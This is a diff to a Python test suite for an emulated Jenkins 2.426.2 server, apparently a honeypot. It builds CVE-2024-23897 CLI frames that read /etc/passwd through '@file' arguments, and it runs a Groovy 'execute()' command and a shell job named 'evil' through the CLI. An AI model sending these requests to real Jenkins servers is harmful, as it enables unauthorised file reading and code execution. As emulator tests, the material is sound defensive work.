@@ -71,17 +71,90 @@ async def test_metasploit_s_jenkins_command_reads_what_the_command_says(jenkins:
     assert _results(answer)[1] == "out> jenkins\n err> \n"
 
 
-async def test_the_command_line_reads_files_to_strangers(jenkins: Machine) -> None:
-    """CVE-2024-23897 as its published tools do it: two requests of one session, `connect-node @FILE`."""
-    words = [b"connect-node", b"@/etc/passwd"]
-    frames = b"".join(struct.pack(">i", len(word) + 2) + b"\0" + len(word).to_bytes(2, "big") + word for word in words)
+async def _told(jenkins: Machine, *words: str, stdin: bytes = b"", **more: str) -> tuple[str, str, int]:
+    """What the command line says, its complaints and its status: two requests of one session, as published tools send them."""
+    frames = b"".join(
+        struct.pack(">i", len(word) + 2) + b"\0" + len(word).to_bytes(2, "big") + word for word in map(str.encode, words)
+    )
     frames += struct.pack(">i", 7) + b"\x02" + b"\0\x05UTF-8" + struct.pack(">i", 0) + b"\x03"
-    fields = {"Session": "3a2b", "Content-Type": "application/octet-stream"}
+    frames += struct.pack(">i", len(stdin)) + b"\x05" + stdin + struct.pack(">i", 0) + b"\x06"
+    fields = {"Session": "a9b4a6d0-6f34-4a5c-9d0c-8f0e7d9c2b11", "Content-Type": "application/octet-stream", **more}
     down = asyncio.ensure_future(jenkins.ask("POST", "/cli?remoting=false", b"", {**fields, "Side": "download"}))
     await asyncio.sleep(0)
     await jenkins.ask("POST", "/cli?remoting=false", frames, {**fields, "Side": "upload"})
-    said = (await down).body.decode("latin-1")
-    assert 'No such agent "root:x:0:0:root:/root:/bin/bash" exists.' in said
+    answer = await down
+    assert (answer.field("Hudson-Duplex"), answer.body[:1]) == ("true", b"\0")
+    heard, at, status = {7: "", 8: ""}, 1, -1
+    while at < len(answer.body):
+        size, operation = struct.unpack(">iB", answer.body[at : at + 5])
+        data, at = answer.body[at + 5 : at + 5 + size], at + 5 + size
+        if operation == 4:
+            (status,) = struct.unpack(">i", data)
+        else:
+            heard[operation] += data.decode()
+    return heard[7], heard[8], status
+
+
+LISTED = "Lists all the available commands or a detailed description of single command."
+AT_FILES = [  # what args4j 2.33 of Debian's libargs4j-java says of the same words
+    (("help", "@/etc/passwd"), "Too many arguments: {1}\njava -jar jenkins-cli.jar help [COMMAND]\n" + LISTED + "\n COMMAND : Name of the command (default: {0})\n"),
+    (("help", "1", "@/etc/passwd"), "Too many arguments: {0}\njava -jar jenkins-cli.jar help [COMMAND]\n" + LISTED + "\n COMMAND : Name of the command (default: 1)\n"),
+    (("who-am-i", "@/etc/passwd"), "No argument is allowed: {0}\njava -jar jenkins-cli.jar who-am-i\nReports your credential and permissions.\n"),
+    (("enable-job", "@/etc/passwd"), "Too many arguments: {1}\njava -jar jenkins-cli.jar enable-job NAME\nEnables a job.\n NAME : Job name\n"),
+    (("keep-build", "@/etc/passwd"), "Too many arguments: {2}\njava -jar jenkins-cli.jar keep-build NAME BUILD#\nMark the build to keep the build forever.\n NAME   : Item name\n BUILD# : Build number\n"),
+    (("help", "@/nowhere"), "No such file: /nowhere\njava -jar jenkins-cli.jar help [COMMAND]\n" + LISTED + "\n COMMAND : Name of the command\n"),
+    (("help", "@/etc//"), "Failed to parse /etc\njava -jar jenkins-cli.jar help [COMMAND]\n" + LISTED + "\n COMMAND : Name of the command\n"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("words", "told"), AT_FILES, ids=[" ".join(words) for words, _ in AT_FILES])
+async def test_the_command_line_shows_strangers_the_first_lines_of_files(jenkins: Machine, words: tuple[str, ...], told: str) -> None:
+    """CVE-2024-23897 where nobody may read anything: of `help`, `who-am-i` and what was a method, words are read before that is asked."""
+    lines = jenkins.read("/etc/passwd").decode().splitlines()
+    assert await _told(jenkins, *words) == ("", "\nERROR: " + told.format(*lines), 2)
+
+
+async def test_the_command_line_shows_whoever_is_in_whole_files(jenkins: Machine) -> None:
+    await _entered(jenkins)
+    out, told, status = await _told(jenkins, "connect-node", "@/etc/passwd")
+    lines = [line for line in jenkins.read("/etc/passwd").decode().splitlines() if line]
+    *complaints, empty, error = told.splitlines()
+    assert sorted(complaints) == sorted(f'{line}: No such agent "{line}" exists.' for line in lines)
+    assert (out, empty, error, status) == (
+        "",
+        "",
+        "ERROR: Error occurred while performing this command, see previous stderr output.",
+        5,
+    )
+
+
+async def test_the_command_line_refuses_strangers_and_serves_an_administrator(jenkins: Machine) -> None:
+    """Words and statuses of hudson.cli in 2.426.2."""
+    missing = "\nERROR: anonymous is missing the Overall/Read permission\n"
+    assert await _told(jenkins, "connect-node", "@/etc/passwd") == ("", missing, 6)
+    assert await _told(jenkins, "restart") == ("", missing, 6)
+    assert await _told(jenkins, "nosuch") == ("", "No such command nosuch\n", 2)
+    assert await _told(jenkins, "who-am-i") == ("Authenticated as: anonymous\nAuthorities:\n  anonymous\n", "", 0)
+    assert (await _told(jenkins, "help"))[1].startswith(
+        "\nERROR: You must authenticate to access this Jenkins.\nJenkins CLI\nUsage: "
+    )
+    assert await _told(jenkins) == ("", "Connection closed before arguments received\n", 2)
+    await _entered(jenkins)
+    [job] = (await _told(jenkins, "list-jobs"))[0].splitlines()
+    assert await _told(jenkins, "version") == ("2.426.2\n", "", 0)
+    assert await _told(jenkins, "groovy", "=", stdin=b"println 'id -un'.execute().text") == ("jenkins\n\n", "", 0)
+    assert (await _told(jenkins, "get-job", job))[0].startswith("<?xml version='1.1' encoding='UTF-8'?>\n<project>")
+    assert await _told(jenkins, "get-job", job[:-1]) == ("", f"\nERROR: No such job '{job[:-1]}'; perhaps you meant '{job}'?\n", 3)
+    config = b"<project><builders><hudson.tasks.Shell><command>id -un</command></hudson.tasks.Shell></builders></project>"
+    assert await _told(jenkins, "create-job", "evil", stdin=config) == ("", "", 0)
+    assert await _told(jenkins, "build", "evil", "-s") == ("Started evil #1\nCompleted evil #1 : SUCCESS\n", "", 0)
+    assert (await _told(jenkins, "console", "evil", "-n", "1"))[0] == "Finished: SUCCESS\n"
+
+
+async def test_a_wrong_password_of_a_program_is_refused_as_by_spring(jenkins: Machine) -> None:
+    answer = await jenkins.ask("GET", "/api/json", fields={"Authorization": "Basic " + base64.b64encode(b"admin:nothing").decode()})
+    assert (answer.status, answer.field("WWW-Authenticate")) == (401, 'Basic realm="Jenkins"')
+    assert b"<h2>HTTP ERROR 401 Unauthorized</h2>" in answer.body
 
 
 SCRIPTS = [
@@ -123,8 +196,13 @@ async def test_without_a_crumb_nothing_is_done(jenkins: Machine) -> None:
 
 
 async def test_a_stranger_is_sent_to_the_door(jenkins: Machine) -> None:
-    answer = await jenkins.ask("GET", "/systemInfo")
-    assert (answer.status, answer.field("X-Jenkins"), b"url=/login?from=%2FsystemInfo" in answer.body) == (403, "2.426.2", True)
+    """Its 541 bytes for / are those that search engines keep of 2.426.2."""
+    front = await jenkins.ask("GET", "/")
+    fields = ["X-Content-Type-Options", "Set-Cookie", "Expires", "X-Hudson", "X-Jenkins", "X-Jenkins-Session"]
+    assert (front.status, len(front.body), front.names[5:]) == (403, 541, fields)
+    answer = await jenkins.ask("GET", "/systemInfo?a=b+c*")
+    assert (answer.status, answer.field("X-Jenkins")) == (403, "2.426.2")
+    assert b"<script>window.location.replace('/login?from=%2FsystemInfo%3Fa%3Db%2Bc*');</script>" in answer.body
 
 
 async def test_the_credential_opens_ssh(jenkins: Machine) -> None:
@@ -160,8 +238,6 @@ async def test_what_the_pages_bring_along_is_there(jenkins: Machine) -> None:
     sheet = await jenkins.ask("GET", re.findall(r'"(/static/[^"]+/jsbundles/simple-page.css)"', door.body.decode())[0])
     assert (sheet.field("Content-Type"), sheet.field("Cache-Control")) == ("text/css", "public, max-age=31536000")
     assert (await jenkins.ask("GET", "/favicon.ico")).status == 200
-    script = re.findall(r"src='(/static/[^']+)'", (await jenkins.ask("GET", "/")).body.decode())[0]
-    assert b"data-redirect-url" in (await jenkins.ask("GET", script)).body
 
 
 async def test_no_link_of_the_administrator_s_leads_nowhere(jenkins: Machine) -> None:
